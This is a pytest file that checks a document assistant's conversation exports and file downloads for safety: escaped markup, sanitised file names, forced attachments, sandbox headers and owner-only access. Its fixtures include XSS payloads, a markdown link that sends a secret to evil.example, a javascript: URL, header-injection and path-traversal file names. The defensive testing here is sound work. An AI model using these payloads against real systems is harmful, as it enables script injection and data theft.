"""Conversations as files: whole, verbatim, and nothing in them but text."""

import io
import json
import re
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import docx
import pytest
from starlette.testclient import TestClient

from assistant.export.conversation_docx import conversation_docx
from assistant.export.conversation_json import conversation_record
from assistant.export.conversation_md import conversation_markdown
from assistant.export.conversation_words import ConversationFile, plain
from assistant.messages import LANGUAGES, Language, message
from assistant.records.turns import KeptTurn, SeenTurn
from assistant.service import Service, history
from assistant.web import files
from assistant.web.attachment import disposition
from assistant.web.visitor import PERSON
from tests.test_history import ANNA, BEN, QUOTE, Shelf, an_answer
from tests.visits import person, service_over

AT = datetime(2026, 3, 1, 12, tzinfo=UTC)
HOSTILE = (
    "<img src=x onerror=alert(1)> ![x](https://evil.example/?q=secret) [a](javascript:alert(1)) "
    "https://evil.example www.evil.example me@evil.example `code` | # *b* _i_ \x00\u202e"
)


def a_file(language: Language = "de", *, text: str = HOSTILE, **changes: Any) -> ConversationFile:
    answer = replace(an_answer("a", "b"), text=f"{text} [1]")
    hostile = [replace(one, quote=HOSTILE, document=HOSTILE) for one in answer.citations]
    answer = replace(answer, citations=(*answer.citations[:1], *hostile[1:]))
    kept = KeptTurn("1" * 32, AT, f"# {HOSTILE}", answer, library="old", only=("a",))
    abstained = replace(kept, answer=an_answer(related=("b",)))
    turns = (SeenTurn(kept, **changes), SeenTurn(abstained))
    return ConversationFile(turns, language, AT, "now")


def unescaped(markdown: str) -> str:
    """What is left of Markdown once escaped characters are taken out."""
    return re.sub(r"\\[^\w\s]|&\w+;", "", markdown)


@pytest.mark.parametrize("language", LANGUAGES)
def test_markdown_holds_no_markup_of_anybody_else(language: Language) -> None:
    written = conversation_markdown(a_file(language))
    left = unescaped(written)
    assert "<" not in left
    assert not re.search(r"!\[|\]\(|https?:|www\.|\w@\w|`", left)
    assert "\x00" not in written
    assert "\u202e" not in written
    assert QUOTE in written
    assert message("conversation.note", language)[:40] in written


@pytest.mark.parametrize("start", ["- a", "1. a", "    a", "+ a", "> a", "=== ", "2) a", "<b>"])
def test_a_line_of_an_answer_begins_no_block(start: str) -> None:
    lines = conversation_markdown(a_file(text=f"Davor.\n{start}")).splitlines()
    line = next(one for one in lines if one.endswith("a \\[1\\]") or "\\[1\\]" in one)
    assert not re.match(r"\s{4}|\s*(?:[-+*]|\d+[.)])\s|\s*[><=#]", line), line


def test_word_holds_the_words_and_no_links() -> None:
    written = conversation_docx(a_file())
    document = docx.Document(io.BytesIO(written))
    words = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert QUOTE in words
    assert "<img src=x onerror=alert(1)>" in words
    assert "\u202e" not in words
    with zipfile.ZipFile(io.BytesIO(written)) as archive:
        body = archive.read("word/document.xml").decode()
    assert "w:hyperlink" not in body
    assert "<img" not in body


def test_json_holds_each_turn_as_it_was_answered() -> None:
    record = json.loads(json.dumps(conversation_record(a_file())))
    [first, second] = record["turns"]
    assert first["citations"][0]["quote"] == QUOTE
    assert (first["library"], record["library"]) == ("old", "now")
    assert second["abstained"] is True


def test_a_withheld_answer_is_in_no_file(tmp_path: Path) -> None:
    service = service_over(Shelf(tmp_path), tmp_path)
    name, _ = history.keep(service.visit(ANNA), "", question="Q", answer=an_answer("a"))
    visit = type("Narrow", (type(service.visit(ANNA)),), {"hidden": frozenset({"/docs/a.pdf"})})(
        service, ANNA
    )
    file = ConversationFile(history.turns(visit, name), "de", AT, "now")
    for written in (conversation_markdown(file), json.dumps(conversation_record(file))):
        assert QUOTE not in written
    assert message("web_ask.withheld", "de")[:30] in conversation_markdown(file)


def test_what_is_copied_has_the_sources_word_for_word() -> None:
    turn = KeptTurn("1" * 32, AT, "Wer?", an_answer("a"))
    assert plain(turn, "de").splitlines() == [
        "Wer?",
        "",
        f"{QUOTE} [1]",
        "",
        f"[1] A, Seite ii, Abschnitt „1.1 <b>“ (a.pdf): „{QUOTE}“",
    ]


@pytest.mark.parametrize(
    ("name", "plain_name"),
    [
        ("ordner/Prüf & Co.pdf", "Pr_f _ Co.pdf"),
        ('a"; filename="b.exe', "a__ filename__b.exe"),
        ("a\r\nSet-Cookie: x=1.pdf", "a__Set-Cookie_ x_1.pdf"),
        ("..\\..\\x.docx", "x.docx"),
        ("\u202ecod.exe", "cod.exe"),
        ("", "file"),
        ("日本.pdf", "__.pdf"),
    ],
)
def test_a_file_name_is_safe_in_a_header(name: str, plain_name: str) -> None:
    header = disposition(name)
    assert header.startswith(f"attachment; filename=\"{plain_name}\"; filename*=UTF-8''")
    assert header.isascii()
    assert not re.search(r"[\r\n]", header)
    assert header.count('"') == 2


class Stocked(Shelf):
    """Its files hold what a browser would run."""

    def original(self, document_id: str) -> bytes:
        return b"<script>alert(1)</script>"


@pytest.fixture
def service(tmp_path: Path) -> Service:
    return service_over(Stocked(tmp_path), tmp_path)


def client(service: Service, who: Any) -> TestClient:
    from starlette.applications import Starlette

    app = Starlette(routes=files.routes(service))

    async def guarded(scope: Any, receive: Any, send: Any) -> None:
        await app({**scope, PERSON: who}, receive, send)

    return TestClient(guarded)


def test_a_document_is_only_ever_saved(service: Service) -> None:
    reply = client(service, person("reader", "anna")).get(f"/files/document/{'a' * 64}")
    assert reply.content == b"<script>alert(1)</script>"
    assert reply.headers["content-disposition"].startswith('attachment; filename="a.pdf"')
    assert reply.headers["content-type"] == "application/octet-stream"
    assert "sandbox" in reply.headers["content-security-policy"]
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert "no-store" in reply.headers["cache-control"]
    with service.database.reading() as connection:
        actions = connection.exec_driver_sql("select action from audit_log").scalars().all()
    assert actions == ["download"]


@pytest.mark.parametrize("form", ["docx", "md", "json"])
def test_a_conversation_is_had_by_its_own_person_alone(service: Service, form: str) -> None:
    name, _ = history.keep(service.visit(ANNA), "", question="Wer?", answer=an_answer("a"))
    address = f"/files/conversation/{name}/{form}?lang=en"
    reply = client(service, ANNA).get(address)
    assert reply.status_code == 200
    assert 'filename="Conversation-' in reply.headers["content-disposition"]
    assert client(service, BEN).get(address).status_code == 404
    assert client(service, None).get(address).status_code == 404
    assert client(service, ANNA).get(f"/files/conversation/{name}/exe").status_code == 404


@pytest.mark.parametrize("who", [None, ANNA])
def test_what_may_not_be_read_is_not_there(service: Service, who: Any) -> None:
    missing = client(service, who).get(f"/files/document/{'c' * 64}")
    assert missing.status_code == 404
    assert missing.content == b""
